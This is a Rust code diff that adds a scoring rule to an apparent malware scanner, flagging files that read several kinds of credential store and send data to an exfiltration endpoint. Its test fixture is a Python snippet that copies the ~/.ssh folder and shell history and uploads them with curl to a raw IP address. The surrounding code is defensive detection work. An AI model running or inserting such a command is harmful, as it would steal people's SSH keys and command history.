@@ -130,6 +130,11 @@ pub const COMBINATIONS: &[Combination] = &[
         weight: 0.6,
     },
     Combination {
+        id: "combo:credentials-uploaded",
+        description: "two or more kinds of credential store read and data sent to an exfiltration endpoint in the same file",
+        weight: 0.55,
+    },
+    Combination {
         id: "combo:stolen-to-endpoint",
         description: "stealer-target access and an exfiltration endpoint in the same file",
         weight: 0.5,
@@ -258,6 +263,36 @@ fn combination_evidence<'f>(
                 r.rule == "WH120" && r.scope == url.scope && r.path == url.path
             })?;
             Some((url, run))
+        }
+        "combo:credentials-uploaded" => {
+            // One credential file is a client reading its own config; SSH keys and shell
+            // history together, sent to a raw IP or a drop site, are a collection run.
+            let credentials = |f: &&Finding| {
+                f.rule == "WH140"
+                    && f.context != ExecContext::TestOrDocs
+                    && (f.has_tag("credential-file") || f.has_tag("stealer-target"))
+            };
+            let mut kinds: Vec<&str> = findings
+                .iter()
+                .filter(credentials)
+                .filter_map(|f| f.message.split(" (").next())
+                .map(|m| {
+                    m.trim_start_matches("reads ")
+                        .trim_start_matches("names the ")
+                })
+                .map(|m| m.split(" path").next().unwrap_or(m))
+                .collect();
+            kinds.sort_unstable();
+            kinds.dedup();
+            if kinds.len() < 2 {
+                return None;
+            }
+            let steal = strongest(findings, |f| credentials(&f))?;
+            let endpoint = strongest(findings, |f| {
+                f.rule == "WH160" && f.severity >= 0.15 && f.context != ExecContext::TestOrDocs
+            })?;
+            findings.iter().find(|f| f.has_tag("net-send"))?;
+            Some((steal, endpoint))
         }
         "combo:stolen-to-endpoint" => {
             let steal = strongest(findings, |f| {
@@ -458,6 +493,27 @@ mod tests {
             !s.contributions
                 .iter()
                 .any(|c| c.rule == "combo:executable-fetched-and-run"),
+            "{s:?}"
+        );
+    }
+
+    #[test]
+    fn collected_credentials_uploaded_to_a_raw_ip_are_malicious() {
+        let code = "import os, shutil\ndef run():\n    shutil.copytree(os.path.expanduser('~/.ssh'), '/tmp/c/ssh')\n    shutil.copyfile(os.path.expanduser('~/.bash_history'), '/tmp/c/h')\n    os.system('curl -k -F \"file=@/tmp/c.zip\" https://45.13.22.9/upload')\n";
+        let s = score("x-1/x/api.py", code);
+        assert!(
+            s.contributions
+                .iter()
+                .any(|c| c.rule == "combo:credentials-uploaded"),
+            "{s:?}"
+        );
+        // A client reading its own SSH config and talking to its server is not that.
+        let client = "import os, requests\ndef connect(host):\n    cfg = open(os.path.expanduser('~/.ssh/config')).read()\n    requests.post('https://' + host + '/api', data=cfg)\n";
+        let s = score("x-1/x/client.py", client);
+        assert!(
+            !s.contributions
+                .iter()
+                .any(|c| c.rule == "combo:credentials-uploaded"),
             "{s:?}"
         );
     }
